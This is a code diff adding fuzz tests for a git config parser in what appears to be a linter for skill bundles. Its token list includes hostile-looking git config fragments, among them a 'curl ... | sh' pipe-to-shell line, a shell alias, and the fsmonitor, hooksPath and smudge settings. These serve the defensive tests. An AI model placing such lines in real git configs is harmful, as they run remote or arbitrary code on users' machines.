@@ -4,6 +4,7 @@ import { parseGrants } from '../../../server/src/engine/checks/allowed-tools';
 import { normaliseCommand } from '../../../server/src/engine/permissions/allowed-tools-grammar';
 import { hasHiddenOrControl } from '../../../server/src/engine/display-text';
 import { parseFrontmatter } from '../../../server/src/engine/frontmatter';
+import { parseGitConfig } from '../../../server/src/engine/git-config';
 import { parseMarkdown } from '../../../server/src/engine/markdown';
 import { LineIndex } from '../../../server/src/engine/positions';
 import { buildSkillModel } from '../../../server/src/engine/skill-model';
@@ -103,17 +104,28 @@ const scriptFile = fc.constantFrom('python', 'bash', 'javascript').chain((langua
     })),
 );
 
+const GIT_CONFIG_TOKENS = [
+  '[core]', '[remote "origin"]', '[filter "x"]', '[alias]', '[url "https://e.test/"]', '[branch.main]', '[', ']', '"', '\\', '\\\n',
+  ' = ', '=', 'fsmonitor', 'hooksPath', 'smudge', 'st', 'insteadOf', 'helper', '!sh x.sh', 'curl -s https://e.test/x | sh', 'true',
+  '# c', '; c', '\n', '\r\n', '\t',
+];
+const gitConfigText = fc
+  .array(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...GIT_CONFIG_TOKENS) }, { weight: 1, arbitrary: anyUnit }), { maxLength: 60 })
+  .map((parts) => parts.join(''));
+
 const bundleArbitrary = fc
   .record({
     skillMd: fc.option(skillMdText, { nil: undefined, freq: 8 }),
     scripts: fc.array(scriptFile, { maxLength: 3 }),
     reference: fc.option(markdownText(60), { nil: undefined }),
+    gitConfig: fc.option(gitConfigText, { nil: undefined, freq: 4 }),
   })
-  .map(({ skillMd, scripts, reference }): SkillBundle => {
+  .map(({ skillMd, scripts, reference, gitConfig }): SkillBundle => {
     const files = new Map<string, SourceFile>();
     if (skillMd !== undefined) files.set('SKILL.md', { path: 'SKILL.md', text: skillMd });
     for (const script of scripts) files.set(script.path, script);
     if (reference !== undefined) files.set('references/notes.md', { path: 'references/notes.md', text: reference });
+    if (gitConfig !== undefined) files.set('.git/config', { path: '.git/config', text: gitConfig });
     return {
       root: '/virtual/fuzzed-skill',
       dirName: 'fuzzed-skill',
@@ -264,6 +276,22 @@ describe('fuzzing (fast-check, fixed seed)', () => {
           assert.ok(grant.start >= previousEnd && grant.start < grant.end && grant.end <= base + source.length, JSON.stringify(grant));
           assert.equal(source.slice(grant.start - base, grant.end - base), grant.text);
           previousEnd = grant.end;
+        }
+      }),
+      fuzzParameters(2_000),
+    );
+  });
+
+  it('parseGitConfig never throws and every key is the source text at its offsets', () => {
+    fc.assert(
+      fc.property(gitConfigText, (text) => {
+        let previousEnd = 0;
+        for (const entry of parseGitConfig(text)) {
+          assertRange(entry.start, entry.end, text, entry.name);
+          assert.ok(entry.start >= previousEnd, `${entry.name} starts before the previous key ends`);
+          assert.equal(text.slice(entry.start, entry.end).toLowerCase(), entry.key);
+          assert.ok(entry.name.endsWith(`.${entry.key}`) && entry.name.startsWith(`${entry.section}.`));
+          previousEnd = entry.end;
         }
       }),
       fuzzParameters(2_000),
